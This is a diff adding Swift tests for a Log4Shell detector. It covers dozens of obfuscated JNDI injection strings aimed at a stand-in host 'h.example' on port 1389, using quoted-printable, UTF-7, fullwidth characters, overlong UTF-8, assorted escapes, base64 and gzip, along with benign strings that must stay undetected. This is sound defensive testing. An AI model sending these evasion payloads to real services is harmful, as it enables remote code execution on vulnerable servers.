@@ -67,4 +67,117 @@ private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte
     #expect(found?.host == "${base64:${env:SECRET}}.h.example")
     #expect(found?.leaks == ["env:SECRET"])
   }
+
+  /// Mail's encodings, and characters that a reader or a normalization takes for ASCII's.
+  @Test(arguments: [
+    "Subject: =?utf-8?Q?" + each { "=\(hex($0).uppercased())" } + "?=", "x$=7Bjndi:ldap://h.exam=\r\nple:1389/a=7D",
+    "+ACQ-+AHs-jndi:ldap://h.example:1389/a+AH0-", "a+ACQAew-jndi:ldap://h.example:1389/a+AH0-",
+    "＄｛ｊndi：ldap：／／h.example:1389／a｝", "q=%EF%BC%84%EF%BD%9Bjndi:ldap://h.example:1389/a%7D",
+    "\\uFF04\\uff5bjndi:ldap://h.example:1389/a\\uff5d", "q=%C0%A4%C1%BBjndi:ldap://h.example:1389/a}",
+    "$%c1%bbjndi:ldap:%c0%af%c0%afh.example:1389/a}", "q=%e0%80%a4%e0%81%bbjndi:ldap://h.example:1389/a}",
+    "＄｛＄｛::-j}ndi:ldap://h.example:1389/a}",
+  ])
+  func mailAndLookalikesAreRead(text: String) {
+    let found = log4shell(text)
+    #expect(found?.scheme == "ldap", "\(text)")
+    #expect(found?.host == "h.example")
+    #expect(found?.port == 1389)
+    #expect(found?.path == "/a")
+    #expect(found?.raw.isEmpty == false)
+  }
+
+  @Test(arguments: [
+    "price ＄｛10｝",
+    "=24=7Bprice=7D", "+ACQ-+AHs-price+AH0-", "%EF%BC%84%EF%BD%9Bname%EF%BD%9D", "a=24=7", "+ACQ", "＄｛",
+    "%c0%a4%c1%bb", "x+ACQ+", "=24=7Bj=",
+  ])
+  func otherMailAndLookalikesStayQuiet(text: String) { #expect(log4shell(text) == nil) }
+
+  /// Whatever stands before it, whoever wrote it: the case of the name, what spells it, what encodes it.
+  @Test(arguments: ["", "a", "ab", "user: ", "{\"agent\":\""])
+  func base64OfEveryBeginning(before: String) {
+    let tail = ":ldap://h.example:1389/a}"
+    let names = [
+      "jndi", "JNDI", "jNdI", "JnDi", "Jndi", "j${::-n}di", "jn${::-d}i", "jnd${lower:I}", "${::-j}ndi",
+      "J${upper:n}di",
+    ]
+    let encodings: [(String) -> String] = [
+      { $0 }, { $0.replacing("{", with: "%7B") }, { $0.replacing("{", with: "%7b") },
+      { $0.replacing("$", with: "%24") }, { $0.replacing("$", with: "%2524").replacing("{", with: "%257B") },
+      { $0.replacing("$", with: "%252524").replacing("{", with: "%25257B") },
+      { $0.replacing("$", with: "\\u0024").replacing("{", with: "\\u007b") }, { $0.replacing("{", with: "\\u007b") },
+      { $0.replacing("$", with: "\\x24").replacing("{", with: "\\x7b") },
+      { $0.replacing("$", with: "\\044").replacing("{", with: "\\173") },
+      { $0.replacing("$", with: "%u0024").replacing("{", with: "%u007b") },
+      { $0.replacing("{", with: "&#123;").replacing("$", with: "&#36;") }, { $0.replacing("{", with: "&#123;") },
+      { $0.replacing("{", with: "&lcub;").replacing("$", with: "&dollar;") }, { $0.replacing("{", with: "&lbrace;") },
+      { ".\(Data($0.utf8).base64EncodedString())" },
+    ]
+    for name in names {
+      for (number, encode) in encodings.enumerated() {
+        let text = before + encode("${\(name)\(tail)")
+        let found = log4shell("x=\(Data(text.utf8).base64EncodedString())")
+        #expect(found?.host == "h.example" && found?.port == 1389, "\(number) \(text)")
+        #expect(found?.raw.isEmpty == false)
+      }
+    }
+  }
+
+  /// What else begins as a payload does.
+  @Test(arguments: [
+    "${job.name} of the cluster",
+    "%24filter=name and more", "${javaHome}/bin/java -jar x.jar", "$%7Bname%7D is free text",
+    "{\"a\":\"\\u0024{title} of it\"}", "&dollar;{price} for the whole", "groupIdHelper groupIdEntity",
+  ])
+  func otherBase64StaysQuiet(text: String) {
+    for before in ["", "a", "ab"] {
+      #expect(log4shell(Data((before + text).utf8).base64EncodedString()) == nil)
+    }
+  }
+
+  /// A query and JSON escape two of its digits.
+  @Test func base64GoesOnBehindEscapedDigits() {
+    let digits = Data("?>?>user=${jndi:ldap://h.example:1389/?>?>?>o~~~?b}".utf8).base64EncodedString()
+    #expect(digits.contains("/"))
+    for escaped in [
+      digits.replacing("/", with: "%2F").replacing("+", with: "%2b"), digits.replacing("/", with: "\\/"),
+      digits.replacing("/", with: "\\u002f").replacing("+", with: "\\u002B"),
+    ] {
+      #expect(log4shell("p=\(escaped)&x=1")?.path == "/?>?>?>o~~~?b", "\(escaped)")
+    }
+  }
+
+  /// Subscriptions hand logs on compressed.
+  @Test func compressedTextInBase64IsRead() {
+    // gzip of `{"message":"GET /?x=${jndi:ldap://h.example:1389/a}"}`
+    let digits = "H4sIAAAAAAACA6tWyk0tLk5MT1WyUnJ3DVHQt6+wVanOykvJtMpJSSyw0tfP0EutSMwtyEm1MjS2sNRPrFWqBQBcBVwoNQAAAA=="
+    #expect(log4shell("{\"data\":\"\(digits)\"}")?.host == "h.example")
+    #expect(log4shell(digits)?.port == 1389)
+    #expect(log4shell("H4sIAAAAAAAAA" + String(repeating: "A", count: 64)) == nil)
+    let many = String(repeating: "\(digits.prefix(60)) ", count: 1 << 12)
+    #expect(many.withView { Log4ShellDetector().scan($0, .logField) }.count < 128)
+  }
+
+  @Test func quotesThatWereEscapedAgainAreTheDates() {
+    for quote in ["'", "''", "\\'", "'\\''"] {
+      let found = log4shell("a '${${date:\(quote)j\(quote)}ndi:ldap://h.ex${date:\(quote)ample\(quote)}/a}'")
+      #expect(found?.host == "h.example", "\(quote)")
+    }
+    // A quote is a quote.
+    #expect(log4shell("${jndi:ldap://h.example/${date:''}x}")?.path == "/'x")
+  }
+
+  @Test func patternsAndDefaultsAreNone() {
+    #expect(log4shell("/%24%7Bjndi%3A(ldap|rmi)s?%3A%2F%2F[^\\s\"'<>{}]{3,255}%2FBasic/") == nil)
+    #expect(log4shell("url=${JNDI:=ldap://localhost}") == nil)
+    #expect(log4shell("url=${JNDI:+ldap://localhost} ${JNDI:?ldap://missing}") == nil)
+  }
+
+  @Test func aBraceTooManyWithinTheNameIsStillMeant() {
+    for text in ["${${::-jnd}}i:ldap://h.example/a}", "${${lower:jndi}}:ldap://h.example/a}"] {
+      #expect(log4shell(text)?.host == "h.example", "\(text)")
+    }
+    #expect(log4shell("${${::-jnd}}i: a word") == nil)
+    #expect(log4shell("${jnd}i:ldap://h.example/a}") == nil)
+  }
 }
